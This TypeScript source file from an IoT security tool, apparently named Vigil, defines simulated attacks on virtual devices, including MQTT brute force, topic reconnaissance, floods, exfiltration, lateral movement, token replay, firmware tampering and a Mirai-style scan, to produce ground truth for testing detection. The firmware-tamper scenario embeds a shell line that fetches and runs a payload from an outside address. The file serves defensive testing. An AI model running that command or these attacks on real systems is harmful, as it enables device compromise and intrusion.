import { DeviceSdkError, connect, enroll, type DeviceConnection } from "@vigil/device-sdk";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { writeScanCapture } from "./network-scan.js";
import { hostOfEndpoint } from "../detection/index.js";
import { loadDefaultProfiles, type Profile } from "../policy/index.js";
import { closedWithin, credentialsOf, endQuietly, rawConnect, rawSubscribe } from "./attacker.js";
import type { Fleet } from "./fleet.js";
import { deviceDir, sleep, type VirtualDevice } from "./virtual-device.js";

/** One labelled attack, as written to the ground-truth JSONL file. */
export interface GroundTruth {
  /** The device the attack is injected into (or aimed at, for brute force and token replay). */
  readonly device: string;
  readonly scenario: ScenarioName;
  /** ISO 8601 (ms). */
  readonly start: string;
  readonly end: string;
  /** Every identity the attack used or claimed, the device included: what detection may name. */
  readonly actors: readonly string[];
  /** Set for `vigil drill`: everything it triggers is part of an exercise. */
  readonly drill?: true;
  /** What the scenario did (counts, rates, sizes): the traffic it claims to have produced. */
  readonly detail: Readonly<Record<string, unknown>>;
}

export interface AttackContext {
  readonly fleet: Fleet;
  readonly signal: AbortSignal;
  readonly drill?: boolean;
  /**
   * Stretch a behaviour drift to at least `DRIFT_MIN_READINGS` of its device's reporting periods
   * (a benchmark measuring detection asks for it: a drift shorter than that is not observable).
   * Off by default, so that `vigil simulate`, `vigil demo` and drills last what was asked.
   */
  readonly observableDrift?: boolean;
}

interface ScenarioDefinition {
  readonly title: string;
  readonly description: string;
  /** Profiles the attack suits best, in order; any device otherwise. */
  readonly prefers: readonly string[];
  run(ctx: AttackContext, device: VirtualDevice, durationMs: number, profile: Profile): Promise<AttackResult>;
}

interface AttackResult {
  readonly actors?: readonly string[];
  readonly detail: Record<string, unknown>;
}

let profiles: Promise<ReadonlyMap<string, Profile>> | undefined;
function profileOf(id: string): Promise<Profile> {
  profiles ??= loadDefaultProfiles();
  return profiles.then((all) => {
    const p = all.get(id);
    if (p === undefined) throw new Error(`unknown profile ${id}`);
    return p;
  });
}

/** `n` random bytes as base64 in a JSON-friendly record of about `bytes` bytes. */
function blob(fleet: Fleet, bytes: number, seq: number): Record<string, unknown> {
  const raw = Math.max(16, Math.floor(((bytes - 60) * 3) / 4));
  return { ts: Date.now(), seq, data: fleet.random.bytes(raw).toString("base64") };
}

/** Reporting periods a behaviour drift lasts at least (its ramp covers this many readings of the device). */
export const DRIFT_MIN_READINGS = 40;

/** How long a drift ramps: the attack's duration, and at least `DRIFT_MIN_READINGS` reporting periods. */
export function driftRampMs(durationMs: number, periodMs: number): number {
  return Math.max(durationMs, DRIFT_MIN_READINGS * periodMs);
}

let rogueCount = 0;
let releaseCount = 0;

function otaOf(ctx: AttackContext) {
  const ota = ctx.fleet.target.ota;
  if (ota === undefined)
    throw new Error("the firmware scenarios need an in-process Vigil (--embedded or vigil demo): they reach its update store");
  return ota;
}

/** Waits until the device's OTA agent reported a final state (failed, installed, rolled back) for `campaign`. */
async function finalReport(device: VirtualDevice, campaign: string, deadline: number, signal: AbortSignal) {
  for (let i = 0; i < 10_000 && Date.now() < deadline && !signal.aborted; i++) {
    const last = device.otaReports.find(
      (r) => r.campaign === campaign && r.state !== "downloading" && r.state !== "verified" && r.state !== "installing",
    );
    if (last !== undefined) return last;
    await sleep(100, signal);
  }
  return undefined;
}

/** `major.minor.patch` -> the same major, the next minor, a unique patch (a release newer than `version`). */
function newerThan(version: string): string {
  const [major = "1", minor = "0"] = version.split(".");
  return `${major}.${Number(minor) + 1}.${Date.now() % 1_000_000}${++releaseCount}`;
}

export const scenarios = {
  "brute-force": {
    title: "credential brute force",
    description:
      "Repeated CONNECTs with identities that are not the certificate's (other devices' ids), and TLS connections without any client certificate.",
    prefers: [],
    async run(ctx, device, durationMs) {
      const { fleet } = ctx;
      // The attacker's foothold: a rogue identity it managed to enroll, used to guess others.
      const rogue = fleet.createDevice(`${device.id}-rogue${++rogueCount}`, "environmental-sensor");
      const [token] = await fleet.target.createTokens("environmental-sensor", 1);
      await rogue.enroll(token ?? "");
      const creds = await credentialsOf(rogue.dir);
      const guesses = [device.id, ...fleet.devices().map((d) => d.id)].slice(0, 20);
      const deadline = Date.now() + durationMs;
      let attempts = 0;
      let identifierRejected = 0;
      let handshakeRefused = 0;
      let accepted = 0;
      for (let i = 0; i < 400 && Date.now() < deadline && !ctx.signal.aborted; i++) {
        attempts++;
        const withoutCert = i % 4 === 3;
        const outcome = await rawConnect(fleet.target.mqttUrl, {
          caPem: fleet.target.caPem,
          clientId: guesses[i % guesses.length] ?? device.id,
          ...(withoutCert ? {} : { creds }),
          timeoutMs: 3_000,
        });
        if (outcome.connected) {
          accepted++;
          await endQuietly(outcome.client);
        } else if (outcome.returnCode !== null) identifierRejected++;
        else handshakeRefused++;
        await sleep(100, ctx.signal);
      }
      return { actors: [device.id, rogue.id], detail: { attempts, identifierRejected, handshakeRefused, accepted } };
    },
  },
  recon: {
    title: "topic reconnaissance",
    description:
      "The device's firmware is taken over and subscribes wildcards, $SYS and other devices' topics to map the broker.",
    prefers: ["ip-camera", "vehicle-telematics", "environmental-sensor"],
    async run(ctx, device, durationMs) {
      const { fleet } = ctx;
      const others = fleet
        .devices()
        .filter((d) => d.id !== device.id)
        .slice(0, 4)
        .map((d) => d.id);
      const filters = [
        "#",
        "+/+/+",
        "$SYS/#",
        "devices/+/telemetry",
        "devices/#",
        "vigil/+/cmd",
        ...others.flatMap((o) => [`devices/${o}/telemetry`, `devices/${o}/config`, `vigil/${o}/cmd`]),
      ];
      await device.suspend();
      const refused: string[] = [];
      const granted: string[] = [];
      try {
        const outcome = await rawConnect(fleet.target.mqttUrl, {
          creds: await credentialsOf(device.dir),
          caPem: fleet.target.caPem,
          clientId: device.id,
        });
        if (outcome.client === undefined) return { detail: { connected: false, filters: 0 } };
        const pause = Math.max(20, Math.floor(durationMs / filters.length));
        for (const filter of filters) {
          if (ctx.signal.aborted) break;
          const qos = await rawSubscribe(outcome.client, filter);
          (qos === 128 || qos === null ? refused : granted).push(filter);
          await sleep(pause, ctx.signal);
        }
        await endQuietly(outcome.client);
      } finally {
        await device.resume();
      }
      return { actors: [device.id], detail: { filters: filters.length, refused: refused.length, granted, probed: others } };
    },
  },
  flood: {
    title: "message flood",
    description: "The device publishes telemetry far above its profile's rate (20x, at least 20 messages/s).",
    prefers: ["environmental-sensor", "smart-meter", "infusion-pump", "vehicle-telematics"],
    async run(ctx, device, durationMs, profile) {
      const rate = Math.min(200, Math.max(20, profile.maxMessagesPerSecond * 20));
      const stepMs = 50;
      const perStep = Math.max(1, Math.round((rate * stepMs) / 1000));
      const deadline = Date.now() + durationMs;
      const started = Date.now();
      let sent = 0;
      for (let i = 0; i < 10_000 && Date.now() < deadline && !ctx.signal.aborted; i++) {
        for (let j = 0; j < perStep; j++)
          if (device.send({ subtopic: "telemetry", qos: 0, payload: { ts: Date.now(), flood: sent } })) sent++;
        await sleep(stepMs, ctx.signal);
      }
      const seconds = Math.max(0.001, (Date.now() - started) / 1000);
      return {
        detail: {
          sent,
          targetRatePerSecond: rate,
          achievedRatePerSecond: Math.round((sent / seconds) * 10) / 10,
          profileRatePerSecond: profile.maxMessagesPerSecond,
          profileBurst: profile.burst,
        },
      };
    },
  },
  "exfil-slow": {
    title: "slow data exfiltration",
    description:
      "The device keeps its usual rate but every message carries near its profile's size limit of random (compressed, encrypted-looking) data.",
    prefers: ["patient-monitor", "infusion-pump", "vehicle-telematics", "ip-camera"],
    async run(ctx, device, durationMs, profile) {
      // 45 % of the limit: within it even in the restricted tier (which halves it).
      const size = Math.min(64 * 1024, Math.floor(profile.maxPayloadBytes * 0.45));
      const interval = Math.max(device.behaviour.periodMs, Math.ceil(1000 / (profile.maxMessagesPerSecond * 0.2)));
      const deadline = Date.now() + durationMs;
      let sent = 0;
      let bytes = 0;
      for (let i = 0; i < 10_000 && Date.now() < deadline && !ctx.signal.aborted; i++) {
        const payload = blob(ctx.fleet, size, i);
        if (device.send({ subtopic: device.behaviour.dataTopic, qos: 0, payload })) {
          sent++;
          bytes += JSON.stringify(payload).length;
        }
        await sleep(interval, ctx.signal);
      }
      return {
        detail: { sent, bytes, payloadBytes: size, intervalMs: interval, profileMaxPayloadBytes: profile.maxPayloadBytes },
      };
    },
  },
  "exfil-burst": {
    title: "burst data exfiltration",
    description:
      "The device sends a burst of payloads at its size limit, then one far beyond it (the gateway refuses it and cuts the session).",
    prefers: ["vehicle-telematics", "patient-monitor", "infusion-pump", "ip-camera"],
    async run(ctx, device, durationMs, profile) {
      const size = Math.min(64 * 1024, Math.floor(profile.maxPayloadBytes * 0.45));
      const burst = Math.max(1, Math.min(20, Math.floor(profile.burst / 2) - 1));
      let sent = 0;
      let bytes = 0;
      for (let i = 0; i < burst; i++) {
        const payload = blob(ctx.fleet, size, i);
        if (device.send({ subtopic: device.behaviour.dataTopic, qos: 0, payload })) {
          sent++;
          bytes += JSON.stringify(payload).length;
        }
      }
      await sleep(Math.min(1_000, durationMs / 2), ctx.signal);
      // Then beyond the limit: 1.5x the profile's maximum.
      const oversize = Math.floor(profile.maxPayloadBytes * 1.5);
      const overSent = device.send({ subtopic: device.behaviour.dataTopic, qos: 0, payload: blob(ctx.fleet, oversize, burst) });
      await sleep(Math.max(0, durationMs - 1_000), ctx.signal);
      return {
        detail: {
          sent: sent + (overSent ? 1 : 0),
          bytes: bytes + (overSent ? oversize : 0),
          withinLimit: sent,
          payloadBytes: size,
          oversizeBytes: overSent ? oversize : 0,
          profileMaxPayloadBytes: profile.maxPayloadBytes,
        },
      };
    },
  },
  "cloned-identity": {
    title: "cloned identity",
    description:
      "A copy of the device's key and certificate connects from a second place while the device is online; both keep reconnecting.",
    prefers: ["smart-meter", "infusion-pump", "environmental-sensor"],
    async run(ctx, device, durationMs) {
      const deadline = Date.now() + durationMs;
      let clone: DeviceConnection | undefined;
      let sessions = 0;
      try {
        clone = await connect({
          url: ctx.fleet.target.mqttUrl,
          dir: device.dir,
          reconnect: { minMs: 300, maxMs: 2_000 },
        });
        sessions = 1;
        clone.on("error", () => undefined);
        clone.on("connect", () => sessions++);
        for (let i = 0; i < 1_000 && Date.now() < deadline && !ctx.signal.aborted; i++) {
          if (clone.connected) await clone.publishTelemetry({ ts: Date.now(), clone: true }, { qos: 0 }).catch(() => undefined);
          await sleep(Math.min(1_000, Math.max(50, deadline - Date.now())), ctx.signal);
        }
      } finally {
        await clone?.close().catch(() => undefined);
      }
      return { detail: { cloneSessions: sessions } };
    },
  },
  "lateral-movement": {
    title: "lateral movement",
    description:
      "The device's firmware is taken over and publishes commands on other devices' control channels and configuration topics.",
    prefers: ["plc", "ip-camera", "vehicle-telematics"],
    async run(ctx, device, durationMs) {
      const { fleet } = ctx;
      const victims = fleet
        .devices()
        .filter((d) => d.id !== device.id)
        .slice(0, 3)
        .map((d) => d.id);
      const topics = victims.flatMap((v) => [`vigil/${v}/cmd`, `devices/${v}/config`]);
      const attempts = Math.min(topics.length, 6);
      const pause = Math.max(50, Math.floor(durationMs / Math.max(1, attempts)) - 200);
      let cut = 0;
      const tried: string[] = [];
      await device.suspend();
      try {
        const creds = await credentialsOf(device.dir);
        for (const topic of topics.slice(0, attempts)) {
          if (ctx.signal.aborted) break;
          const outcome = await rawConnect(fleet.target.mqttUrl, { creds, caPem: fleet.target.caPem, clientId: device.id });
          if (outcome.client === undefined) break;
          const client = outcome.client;
          tried.push(topic);
          client.publish(topic, JSON.stringify({ cmd: "reboot", from: device.id }), { qos: 1 }, () => undefined);
          if (await closedWithin(client, 3_000)) cut++;
          await endQuietly(client);
          await sleep(pause, ctx.signal);
        }
      } finally {
        await device.resume();
      }
      return { actors: [device.id], detail: { attempts: tried.length, topics: tried, disconnected: cut, victims } };
    },
  },
  "behaviour-drift": {
    title: "behaviour drift",
    description: `A compromised device's readings move slowly away from normal (mean up to +4 sd, noise doubled) while staying within every limit; the ramp lasts the attack's duration (a benchmark stretches it to at least ${DRIFT_MIN_READINGS} of the device's reporting periods; the ground truth says how many readings it covered).`,
    prefers: ["plc", "patient-monitor", "environmental-sensor", "infusion-pump"],
    async run(ctx, device, durationMs) {
      const started = Date.now();
      // A drift is only a drift once the device has reported it: a sensor that reports every
      // 20 s shows two readings in 40 s, which no test can tell from noise.
      const rampMs = ctx.observableDrift === true ? driftRampMs(durationMs, device.behaviour.periodMs) : durationMs;
      const steps = Math.max(1, Math.min(200, Math.floor(rampMs / 250)));
      for (let i = 1; i <= steps && !ctx.signal.aborted; i++) {
        device.drift = i / steps;
        await sleep(rampMs / steps, ctx.signal);
      }
      const reached = device.drift;
      device.drift = 0;
      const elapsed = Date.now() - started;
      return {
        detail: {
          maxDrift: reached,
          rampMs: elapsed,
          periodMs: device.behaviour.periodMs,
          minReadings: DRIFT_MIN_READINGS,
          expectedReadings: Math.floor(elapsed / device.behaviour.periodMs),
        },
      };
    },
  },
  "token-replay": {
    title: "replayed enrollment token",
    description:
      "A claim token is used by its device, then presented again (stolen from the box or the installer's e-mail) by other identities.",
    prefers: [],
    async run(ctx, device, durationMs) {
      const { fleet } = ctx;
      const [token] = await fleet.target.createTokens(device.profile, 1);
      const owner = fleet.createDevice(`${device.id}-new${++rogueCount}`, device.profile);
      await owner.enroll(token ?? "");
      const attempts = 3;
      const claimed: string[] = [];
      let replayRefused = 0;
      let otherwiseRefused = 0;
      let accepted = 0;
      for (let i = 0; i < attempts && !ctx.signal.aborted; i++) {
        const id = `${owner.id}-replay${i + 1}`;
        claimed.push(id);
        try {
          await enroll({
            server: fleet.target.apiUrl,
            caPem: fleet.target.caPem,
            deviceId: id,
            dir: deviceDir(fleet.workDir, id),
            attestation: { kind: "claim-token", token: token ?? "" },
          });
          accepted++;
        } catch (error) {
          if (error instanceof DeviceSdkError && error.serverCode === "ENROLLMENT_TOKEN_REPLAYED") replayRefused++;
          else otherwiseRefused++;
        }
        await sleep(Math.max(50, Math.floor(durationMs / attempts)), ctx.signal);
      }
      return {
        actors: [owner.id, ...claimed],
        detail: { owner: owner.id, attempts: claimed.length, replayRefused, otherwiseRefused, accepted },
      };
    },
  },
  "firmware-tamper": {
    title: "tampered firmware image",
    description:
      "An attacker with write access to the update store changes the bytes of a signed release; Vigil's campaign offers it to the device, whose OTA agent checks the SHA-256 the signed metadata gives and refuses it.",
    prefers: ["smart-meter", "plc", "infusion-pump", "ip-camera"],
    async run(ctx, device, durationMs) {
      const ota = otaOf(ctx);
      const deadline = Date.now() + Math.max(durationMs, 5_000);
      const version = newerThan(device.firmwareVersion);
      const name = await ota.release(device.profile, version, ctx.fleet.random.bytes(64 * 1024));
      await device.enableOta();
      const running = device.firmwareVersion;
      const file = await ota.imageFile(name);
      const original = await readFile(file);
      // Same length, different bytes: an implant written over the image's middle.
      const implant = Buffer.from("#!/bin/sh\nwget http://203.0.113.7/x -O- | sh\n");
      const tampered = Buffer.from(original);
      implant.copy(tampered, Math.floor(tampered.length / 2));
      await writeFile(file, tampered);
      let campaign: string | undefined;
      try {
        campaign = await ota.campaign(name, [device.id]);
        const report = await finalReport(device, campaign, deadline, ctx.signal);
        return {
          detail: {
            release: name,
            version,
            campaign,
            tamperedBytes: implant.length,
            imageBytes: original.length,
            deviceState: report?.state ?? null,
            refusedFor: report?.reason ?? null,
            runningBefore: running,
            runningAfter: device.firmwareVersion,
          },
        };
      } finally {
        await writeFile(file, original);
        if (campaign !== undefined) await ota.cancel(campaign);
      }
    },
  },
  "firmware-downgrade": {
    title: "firmware downgrade",
    description:
      "An attacker replays the update command for an older release (validly signed, with a known vulnerability) straight to the device's firmware; its OTA agent refuses anything not newer than what it runs, and Vigil records the refused, unsolicited update.",
    prefers: ["infusion-pump", "smart-meter", "plc", "ip-camera"],
    async run(ctx, device, durationMs) {
      const ota = otaOf(ctx);
      const deadline = Date.now() + Math.max(durationMs, 3_000);
      const [major = "1"] = device.firmwareVersion.split(".");
      const old = `${Math.max(0, Number(major) - 1)}.9.${Date.now() % 1_000_000}${++releaseCount}`;
      const name = await ota.release(device.profile, old, ctx.fleet.random.bytes(32 * 1024));
      await device.enableOta();
      const running = device.firmwareVersion;
      const campaign = `attacker-${ctx.fleet.random.int(100_000, 999_999)}`;
      const command = Buffer.from(JSON.stringify({ type: "ota", op: "update", campaign, target: name, version: old }));
      const outcome = await device.deliverCommand(command);
      const report = await finalReport(device, campaign, deadline, ctx.signal);
      await sleep(Math.max(0, Math.min(1_000, deadline - Date.now())), ctx.signal);
      return {
        detail: {
          release: name,
          offeredVersion: old,
          campaign,
          deviceState: report?.state ?? outcome?.state ?? null,
          refusedFor: report?.reason ?? outcome?.reason ?? null,
          runningBefore: running,
          runningAfter: device.firmwareVersion,
        },
      };
    },
  },
  "network-scan": {
    title: "Mirai-style network scan",
    description:
      "The device is infected and scans random IPv4 addresses for telnet (TCP SYNs to 23 and 2323, a few to 22/80/8080/7547) at 100 probes/s: written as a pcap of the site network (its normal traffic first) and, in-process, fed to Vigil's packet analysis.",
    prefers: ["ip-camera", "environmental-sensor", "smart-meter"],
    async run(ctx, device, durationMs) {
      const startMs = Date.now();
      const n = (ctx.fleet.devices().indexOf(device) + 2) % 65_000;
      const deviceIp = `10.20.${Math.floor(n / 250)}.${(n % 250) + 2}`;
      const period = device.behaviour.periodMs / 1000;
      const capture = await writeScanCapture({
        file: join(ctx.fleet.workDir, "network", `${device.id}-scan-${startMs}.pcap`),
        random: ctx.fleet.random,
        deviceIp,
        gatewayIp: "10.20.0.1",
        start: startMs / 1000,
        end: (startMs + durationMs) / 1000,
        // Enough normal traffic for the detector to learn from (about 3,000 packets).
        baselineSeconds: Math.max(300, period * 1_500),
        periodSeconds: period,
        rate: 100,
      });
      await sleep(Math.max(0, startMs + durationMs - Date.now()), ctx.signal);
      const alerts = await ctx.fleet.target.analyzeCapture?.(capture.file, capture.baselinePackets, {
        address: deviceIp,
        device: device.id,
      });
      return {
        actors: [device.id, `ip:${deviceIp}`],
        detail: {
          capture: capture.file,
          deviceIp,
          packets: capture.packets,
          baselinePackets: capture.baselinePackets,
          probes: capture.probes,
          ports: capture.ports,
          addresses: capture.addresses,
          ratePerSecond: capture.ratePerSecond,
          analysed: alerts !== undefined,
          alertsFromDevice: alerts?.filter((a) => hostOfEndpoint(a.src) === deviceIp).length ?? null,
        },
      };
    },
  },
} as const satisfies Record<string, ScenarioDefinition>;

export type ScenarioName = keyof typeof scenarios;

/** Scenarios the issue lists that need parts not built yet. */
export const unavailableScenarios: Readonly<Record<string, string>> = {};

export const scenarioNames = Object.keys(scenarios) as ScenarioName[];

/** The scenarios that act through the MQTT gateway and EST (what MQTT-side detection is measured on). */
export const gatewayScenarioNames = [
  "brute-force",
  "recon",
  "flood",
  "exfil-slow",
  "exfil-burst",
  "cloned-identity",
  "lateral-movement",
  "behaviour-drift",
  "token-replay",
] as const satisfies readonly ScenarioName[];
export type GatewayScenarioName = (typeof gatewayScenarioNames)[number];

export function isScenarioName(name: string): name is ScenarioName {
  return Object.hasOwn(scenarios, name);
}

/** Picks the device best suited to a scenario among `candidates` (its preferred profiles first). */
export function pickDevice(name: ScenarioName, candidates: readonly VirtualDevice[]): VirtualDevice | undefined {
  const prefers: readonly string[] = scenarios[name].prefers;
  for (const profile of prefers) {
    const found = candidates.find((d) => d.profile === profile);
    if (found !== undefined) return found;
  }
  return candidates[0];
}

/** Runs one scenario against one device and returns its ground truth. */
export async function runScenario(
  ctx: AttackContext,
  name: ScenarioName,
  device: VirtualDevice,
  durationMs: number,
): Promise<GroundTruth> {
  const definition: ScenarioDefinition = scenarios[name];
  const profile = await profileOf(device.profile);
  const start = new Date();
  const result = await definition.run(ctx, device, durationMs, profile);
  const end = new Date();
  return {
    device: device.id,
    scenario: name,
    start: start.toISOString(),
    end: end.toISOString(),
    actors: result.actors ?? [device.id],
    ...(ctx.drill === true ? { drill: true as const } : {}),
    detail: result.detail,
  };
}
